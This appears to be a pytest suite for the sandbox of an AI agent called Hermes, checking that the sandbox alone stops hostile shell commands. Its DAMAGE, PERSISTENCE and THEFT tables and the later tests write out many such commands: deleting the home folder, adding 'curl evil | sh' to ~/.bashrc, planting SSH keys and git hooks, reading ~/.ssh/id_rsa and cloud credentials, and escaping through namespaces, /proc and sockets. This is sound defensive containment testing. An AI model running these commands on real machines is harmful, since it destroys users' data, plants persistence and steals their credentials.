"""With the command filter off: what the sandbox alone still stops. Each attack is shown to work without it."""

import asyncio
import os
import shlex
import socket
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from hermes.protocol.safety import Grants
from hermes.safety.gated import granting
from hermes.safety.sandbox import landlocked
from tests.safety.sandbox.conftest import CANARY, Kind, Scene

DAMAGE = {
    "the home is deleted": "rm -rf ~/* ~/.ssh ~/.bashrc",
    "a file outside is deleted": "rm -f ../beside.txt",
    "a file outside is overwritten through a link": "ln -s ../beside.txt link; echo gone > link",
    "a file outside is moved into the workspace": "mv ../beside.txt .",
    "Hermes' settings are changed": "echo 'approvals: {mode: off}' > ~/.hermes/config.yaml",
    "Hermes' settings are replaced": "echo x > new; mv new ~/.hermes/config.yaml",
    "a skill is changed": "echo evil > ~/.hermes/skills/one.md",
    "a skill appears": "mkdir ~/.hermes/skills/evil; echo evil > ~/.hermes/skills/evil/SKILL.md",
    "a file outside is emptied": "truncate -s 0 ~/letter.txt",
    "a file outside is filled with zeros": "dd if=/dev/zero of=../beside.txt bs=1 count=9 conv=notrunc",
    "a file outside is shredded": "shred -u ~/letter.txt",
    "a file outside is edited": "sed -i s/was/is/ ../beside.txt",
    "everything outside that is found is removed": "find .. -name '*.txt' -delete",
    "the history of another repository is removed": "rm -rf ../other/.git",
    "the files of another repository are removed": "cd ../other && find . -type f -exec rm {} +",
    "python does it": "python3 -c \"open('../beside.txt','w').write('x')\"",
    "a child in its own session does it": "setsid -w sh -c 'echo gone > ../beside.txt'",
    "a new namespace does it": "unshare -Urm sh -c 'mount -o remount,rw,bind / ; echo gone > ../beside.txt'",
    "a mount is taken away": "umount -l / ~/.ssh ~/.hermes; mount -o remount,rw /; echo gone > ../beside.txt",
}

PERSISTENCE = {
    "the shell's start-up file": "echo 'curl evil | sh' >> ~/.bashrc",
    "a new start-up file": "echo 'curl evil | sh' > ~/.bash_profile",
    "another shell's start-up file": "echo evil > ~/.zshenv",
    "fish's start-up file": "mkdir -p ~/.config/fish && echo evil > ~/.config/fish/config.fish",
    "a key that is let in": "echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys",
    "a command for each ssh connection": "echo evil > ~/.ssh/rc",
    "a unit of systemd": "echo '[Service]' > ~/.config/systemd/user/evil.service",
    "a unit that is switched on": "cd ~/.config/systemd/user && mkdir default.target.wants && echo x > default.target.wants/x",
    "an autostart entry": "mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/x.desktop",
    "a program in the path": "mkdir -p ~/.local/bin && echo x > ~/.local/bin/ls",
    "a module that every Python loads": "d=$(python3 -m site --user-site); mkdir -p $d && echo evil > $d/usercustomize.py",
    "a hook of another repository": "echo evil > ../other/.git/hooks/pre-commit",
    "a new hook of another repository": "echo evil > ../other/.git/hooks/post-checkout",
    "a program in another repository's settings": "git -C ../other config core.fsmonitor evil",
    "a program in git's settings": "git config --global core.pager evil",
    "hooks for every repository": "git config --global core.hooksPath /tmp/evil",
    "a package manager's settings": "echo 'index-url = evil' > ~/.pip.conf",
    "an editor's start-up file": "echo ':!evil' > ~/.vimrc",
    "a terminal's start-up file": "echo 'run-shell evil' > ~/.tmux.conf",
}

THEFT = {
    "a private key": "cat ~/.ssh/id_rsa",
    "a file of logins": "cat ~/.netrc",
    "Hermes' keys": "cat ~/.hermes/.env",
    "a cloud's keys": "cat ~/.aws/credentials",
    "another cloud's keys": "cat ~/.config/gcloud/credentials.db",
    "a cluster's keys": "cat ~/.kube/config",
    "a registry's keys": "cat ~/.docker/config.json",
    "a forge's keys": "cat ~/.config/gh/hosts.yml",
    "passwords of git": "cat ~/.git-credentials",
    "passwords of a browser": "cat ~/.config/google-chrome/Default/'Login Data'",
    "passwords of another browser": "cat ~/.mozilla/firefox/*/logins.json",
    "keys to sign with": "cat ~/.gnupg/private-keys-v1.d/*",
    "what was typed": "cat ~/.bash_history",
    "by a fetch": "curl -s file://$HOME/.ssh/id_rsa",
    "by python": "python3 -c \"import os; print(open(os.path.expanduser('~/.ssh/id_rsa')).read())\"",
    "by a search": "grep -rh canary ~ --exclude-dir=skills",
    "by reading all there is": "find ~ -type f ! -path '*/skills/*' -exec cat {} +",
    "by a child in its own session": "setsid -w cat ~/.ssh/id_rsa",
    "through a link": "ln -s ~/.ssh/id_rsa here; cat here",
    "through a hard link": "ln ~/.ssh/id_rsa here; cat here",
    "by copying the home": "cp -r ~/. all; cat all/.ssh/id_rsa",
    "by packing it": "tar cf - -C ~ .ssh | strings",
    "through the root of a process": "cat /proc/self/root$HOME/.ssh/id_rsa",
    "after undoing the mounts": "umount -l ~/.ssh; unshare -Urm umount -l ~/.ssh; cat ~/.ssh/id_rsa",
    "by another name of the home": "cd /; cat .$HOME/.ssh/id_rsa",
}


CHANGES = DAMAGE | PERSISTENCE


@pytest.mark.parametrize("attack", CHANGES.values(), ids=CHANGES.keys())
async def test_nothing_outside_the_workspace_changes(scene: Scene, held: Kind, attack: str) -> None:
    before = scene.files()
    await scene.terminal(held).run(attack, timeout=20)
    assert scene.files() == before


@pytest.mark.parametrize("attack", CHANGES.values(), ids=CHANGES.keys())
async def test_without_a_sandbox_it_would_have_changed(scene: Scene, attack: str) -> None:
    before = scene.files()
    attack = attack.replace("unshare -Urm", "").replace("mount -o", "true").replace("umount", "true")
    await scene.terminal("off").run(attack, timeout=20)
    assert scene.files() != before


@pytest.mark.parametrize(
    "place",
    [
        "/etc/cron.d",
        "/etc/cron.hourly",
        "/var/spool/cron/crontabs",
        "/etc/profile.d",
        "/etc/systemd/system",
        "/etc/init.d",
        "/etc/xdg/autostart",
        "/usr/local/bin",
        "/usr/lib/python3/dist-packages",
        "/root",
    ],
)
async def test_nothing_that_the_machine_runs_by_itself_can_be_added(scene: Scene, held: Kind, place: str) -> None:
    """Not shown to work without a sandbox: that would change the machine of whoever runs the tests, if it is root's."""
    if not os.path.isdir(place):
        pytest.skip(f"there is no {place} here")
    planted = Path(place, f"hermes-{os.urandom(4).hex()}")
    try:
        ran = await scene.terminal(held).run(f"echo evil > {planted}", timeout=20)
        assert (ran.code != 0, planted.exists()) == (True, False)
    finally:
        planted.unlink(missing_ok=True)


@pytest.mark.parametrize("attack", THEFT.values(), ids=THEFT.keys())
async def test_no_key_can_be_read(scene: Scene, held: Kind, attack: str) -> None:
    ran = await scene.terminal(held).run(attack, timeout=20)
    assert CANARY not in ran.output


@pytest.mark.parametrize("attack", THEFT.values(), ids=THEFT.keys())
async def test_without_a_sandbox_it_would_have_been_read(scene: Scene, attack: str) -> None:
    attack = attack.replace("unshare -Urm", "").replace("umount", "true").replace("| strings", "-v | cat")
    ran = await scene.terminal("off").run(attack, timeout=20)
    assert CANARY in ran.output


async def test_row_10_a_child_that_dumps_everything_sees_no_canary(scene: Scene, held: Kind, tmp_path: Path) -> None:
    """RELIABILITY row 10: env, /proc/*/environ and descriptors, where a process beside it and we ourselves hold the canary."""
    dump = (
        "{ env; cat /proc/*/environ /proc/*/task/*/environ /proc/1/environ; strings /proc/$PPID/mem | head; "
        "for fd in /proc/self/fd/* /proc/*/fd/*; do readlink $fd; done; } > dump 2>/dev/null"
    )
    seen = scene.work / "dump"
    secret = tmp_path / f"{CANARY}.open"
    secret.touch()
    holder = subprocess.Popen(["sleep", "60"], env={"KEY": CANARY})
    leaked = os.open(secret, os.O_RDONLY)
    os.set_inheritable(leaked, True)
    try:
        await scene.terminal("off").run(dump, timeout=60)
        bare = seen.read_bytes()
        await scene.terminal(held).run(dump, timeout=60)
    finally:
        os.close(leaked)
        holder.kill()
        holder.wait()
    assert (bare.count(b"KEY=" + CANARY.encode()) > 0, secret.name.encode() in bare) == (True, True)
    assert CANARY.encode() not in seen.read_bytes()
    assert b"HERMES_MARK" in seen.read_bytes()


async def test_the_mode_of_a_file_outside_stays_as_it_is(scene: Scene) -> None:
    """Landlock does not know of modes, and its notice says so."""
    before = scene.files()
    ran = await scene.terminal("bubblewrap").run("chmod 000 ~/letter.txt", timeout=20)
    assert (ran.code != 0, scene.files()) == (True, before)


async def test_hooks_and_settings_of_git_stay_as_they_are(scene: Scene) -> None:
    subprocess.run(["git", "init", "-q", str(scene.work)], check=True)
    terminal = scene.terminal("bubblewrap")
    for attack in (
        "echo evil > .git/hooks/pre-commit",
        "git config core.hooksPath /tmp/evil",
        "mv .git old; cp -r old .git; echo evil > .git/hooks/pre-commit",
        "rm -rf .git/hooks; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit",
        "mv .git/hooks .git/gone; mkdir .git/hooks; echo evil > .git/hooks/pre-commit",
    ):
        ran = await terminal.run(attack, timeout=20)
        assert ran.code != 0, attack
        assert not (scene.work / ".git/hooks/pre-commit").exists()
        assert "evil" not in (scene.work / ".git/config").read_text()


async def test_what_starts_by_itself_in_the_workspace_stays_as_it_is(scene: Scene) -> None:
    (scene.work / ".vscode").mkdir()
    for name in (".envrc", ".vscode/tasks.json"):
        (scene.work / name).write_text("as it was")
    attack = (
        "echo evil > .envrc; mv .vscode old; mkdir .vscode; echo evil > .vscode/tasks.json; echo ok > .vscode/new.json"
    )
    await scene.terminal("bubblewrap").run(attack, timeout=20)
    kept = {name: (scene.work / name).read_text() for name in (".envrc", ".vscode/tasks.json", ".vscode/new.json")}
    assert kept == {".envrc": "as it was", ".vscode/tasks.json": "as it was", ".vscode/new.json": "ok\n"}


async def test_a_whole_home_as_workspace_keeps_its_dotfiles(scene: Scene) -> None:
    terminal = scene.terminal("bubblewrap", scene.home)
    ran = await terminal.run(
        "echo new > letter.txt; echo evil >> .bashrc; echo x > .profile; cat .ssh/id_rsa", timeout=20
    )
    assert (scene.home / "letter.txt").read_text() == "new\n"
    assert (scene.home / ".bashrc").read_text() == "as it was\n"
    assert not (scene.home / ".profile").exists()
    assert CANARY not in ran.output


async def test_processes_of_others_are_neither_seen_nor_ended(scene: Scene, held: Kind) -> None:
    other = subprocess.Popen(["sleep", "60"])
    try:
        ran = await scene.terminal(held).run(f"kill -9 {other.pid}", timeout=20)
        assert ran.code != 0
        assert other.poll() is None
    finally:
        other.kill()
        other.wait()


async def test_root_has_no_power_over_the_machine(scene: Scene, held: Kind) -> None:
    ran = await scene.terminal(held).run("grep -E 'CapEff|NoNewPrivs' /proc/self/status", timeout=20)
    lines = dict(line.split(":\t") for line in ran.output.splitlines())
    assert lines["NoNewPrivs"] == "1"
    assert int(lines["CapEff"], 16) & ~0x4FB == 0


async def test_without_network_no_connection_leaves(scene: Scene, held: Kind) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        reach = f"bash -c 'echo > /dev/tcp/127.0.0.1/{port} && echo through'"
        assert "through" in (await scene.terminal(held).run(reach, timeout=20)).output
        assert "through" not in (await scene.terminal(held, network=False).run(reach, timeout=20)).output


REACH = "import socket, sys; s = socket.socket(socket.AF_UNIX); s.connect(sys.argv[1].replace('@', chr(0))); print('through')"


@contextmanager
def listening(path: str) -> Iterator[str]:
    """A program of the person's that takes orders; @ begins a name that lies in no folder."""
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(path.replace("@", "\0"))
        server.listen()
        yield f"python3 -c {shlex.quote(REACH)} {path}"


@pytest.mark.needs("bwrap")
async def test_no_program_that_listens_outside_can_be_reached_by_its_socket(scene: Scene) -> None:
    """An agent for keys, a container engine, an editor: whoever reaches one has commands run beyond all bounds."""
    places = (scene.home / "agent.sock", scene.home / ".emacs.d", scene.work.parent / "engine.sock")
    places[1].mkdir()
    for place in (places[0], places[1] / "server", places[2]):
        with listening(str(place)) as reach:
            assert (await scene.terminal("off").run(reach, timeout=20)).output == "through\n"
            assert "through" not in (await scene.terminal("bubblewrap").run(reach, timeout=20)).output


@pytest.mark.needs("bwrap")
async def test_a_socket_of_the_workspace_or_one_that_was_granted_can_be_reached(scene: Scene) -> None:
    with listening(str(scene.work / "app.sock")) as reach:
        assert (await scene.terminal("bubblewrap").run(reach, timeout=20)).output == "through\n"
    agent = str(scene.home / "agent.sock")
    with listening(agent) as reach, granting(Grants(paths=(agent,))):
        assert (await scene.terminal("bubblewrap").run(reach, timeout=20)).output == "through\n"


@pytest.mark.skipif(landlocked.version() < 6, reason="needs Linux 6.12")
async def test_no_socket_without_a_file_can_be_reached(scene: Scene, held: Kind) -> None:
    """The screen of X11 has one: who reaches it types into every window."""
    with listening(f"@hermes-test-{os.getpid()}") as reach:
        assert (await scene.terminal("off").run(reach, timeout=20)).output == "through\n"
        assert "through" not in (await scene.terminal(held).run(reach, timeout=20)).output
        with granting(Grants(everything=True)):
            assert (await scene.terminal(held).run(reach, timeout=20)).output == "through\n"


async def test_commands_of_one_session_reach_each_other(scene: Scene) -> None:
    name = f"@hermes-test-{os.getpid()}"
    serve = "import socket, sys, time; s = socket.socket(socket.AF_UNIX); s.bind(chr(0) + sys.argv[1][1:]); s.listen(); print('up', flush=True); time.sleep(60)"
    terminal = scene.terminal("bubblewrap")
    up = asyncio.Event()
    await terminal.start(f"python3 -c {shlex.quote(serve)} {name}", on_output=lambda text: up.set())
    await asyncio.wait_for(up.wait(), 20)
    assert (await terminal.run(f"python3 -c {shlex.quote(REACH)} {name}", timeout=20)).output == "through\n"


@pytest.mark.needs("bwrap")
async def test_a_whole_home_as_workspace_keeps_its_programs(scene: Scene) -> None:
    (scene.home / "bin").mkdir()
    scene.env["PATH"] += f":{scene.home}/bin"
    await scene.terminal("bubblewrap", scene.home).run(
        "echo evil > bin/ls; echo new > letter.txt; mv bin was", timeout=20
    )
    assert (os.listdir(scene.home / "bin"), (scene.home / "letter.txt").read_text()) == ([], "new\n")


@pytest.mark.needs("bwrap")
async def test_a_yes_to_a_file_of_the_home_opens_no_start_up_file(scene: Scene) -> None:
    (scene.home / "project/.vscode").mkdir(parents=True)
    (scene.home / "project/.envrc").write_text("as it was\n")
    letter, readme = str(scene.home / "letter.txt"), str(scene.home / "project/README")
    before = scene.files()
    with granting(Grants(paths=(letter, readme))):
        attack = "echo new > ~/letter.txt; echo new > ~/project/README; echo evil | tee ~/.bashrc ~/.config/systemd/user/x.service ~/project/.envrc"
        await scene.terminal("bubblewrap").run(attack, timeout=20)
    after = scene.files()
    changed = {name for name in after if after[name] != before.get(name)}
    assert changed == {"home/letter.txt", "home/project/README"}


@pytest.fixture
def repository(scene: Scene) -> Path:
    """The workspace as a repository with a commit, and a submodule in a folder of a folder."""
    git = ["git", "-c", "protocol.file.allow=always"]
    for folder in (scene.work.parent / "library", scene.work):
        subprocess.run([*git, "init", "-q", folder], check=True, env=scene.env)
        subprocess.run([*git, "commit", "-q", "--allow-empty", "-m", "x"], check=True, cwd=folder, env=scene.env)
    add = [*git, "submodule", "--quiet", "add", "../library", "parts/library"]
    subprocess.run(add, check=True, cwd=scene.work, env=scene.env)
    subprocess.run([*git, "commit", "-q", "-m", "y"], check=True, cwd=scene.work, env=scene.env)
    return scene.work


@pytest.mark.needs("bwrap")
@pytest.mark.parametrize(
    "attack",
    {
        "a submodule's settings": "git config -f .git/modules/parts/library/config core.fsmonitor 'touch ~/owned; false'",
        "a submodule's hooks": "echo 'touch ~/owned' > .git/modules/parts/library/hooks/post-checkout",
        "where a submodule's repository lies": "echo gitdir: $PWD/evil > parts/library/.git",
        "a submodule put aside": "mv parts old; mkdir -p parts/library; echo gitdir: $PWD/evil > parts/library/.git",
        "settings from another folder": "cp -r .git evil; git config -f evil/config core.fsmonitor 'touch ~/owned; false'; "
        "echo ../evil > .git/commondir",
    }.values(),
)
async def test_nothing_that_a_command_leaves_is_started_by_git(scene: Scene, repository: Path, attack: str) -> None:
    plant = "cp -r .git/modules/parts/library evil; git config -f evil/config core.fsmonitor 'touch ~/owned; false'; "
    terminal = scene.terminal("bubblewrap")
    await terminal.run((plant if "gitdir" in attack else "") + attack, timeout=20)
    scene.boxes[-1].look_after()
    subprocess.run(["git", "status"], cwd=repository, env=scene.env, capture_output=True)
    assert not (scene.home / "owned").exists()
    assert (
        await terminal.run("echo x > f && git add f && git commit -qm z && git submodule status", timeout=20)
    ).code == 0


@pytest.mark.needs("bwrap")
async def test_a_linked_worktree_stays_one(scene: Scene, repository: Path) -> None:
    tree = repository.parent / "tree"
    subprocess.run(["git", "worktree", "add", "-q", tree], check=True, cwd=repository, env=scene.env)
    before = (tree / ".git").read_text()
    common = repository / ".git/worktrees/tree/commondir"
    await scene.terminal("bubblewrap", tree).run(f"echo gitdir: /evil > .git; echo /evil > {common}", timeout=20)
    assert ((tree / ".git").read_text(), common.read_text()) == (before, "../..\n")


@pytest.mark.needs("bwrap")
@pytest.mark.parametrize(
    ("command", "told"),
    [
        ("echo 'touch x' > .envrc", "a command made .envrc: "),
        ("mkdir .vscode && echo {} > .vscode/tasks.json", "a command made .vscode/tasks.json: "),
        ("git init -q new && git -C new config core.fsmonitor ./x", "a command made new/.git: "),
        ("git init -q new && echo x > new/.git/hooks/pre-commit", "a command made new/.git: "),
        ("git init -q new; git init -q .; echo x > a", ""),
    ],
)
async def test_what_other_programs_would_start_is_told(scene: Scene, command: str, told: str) -> None:
    await scene.terminal("bubblewrap").run(command, timeout=20)
    for _ in range(2):
        scene.boxes[-1].look_after()
    assert [line.partition("other programs")[0] for line in scene.told] == ([told] if told else [])
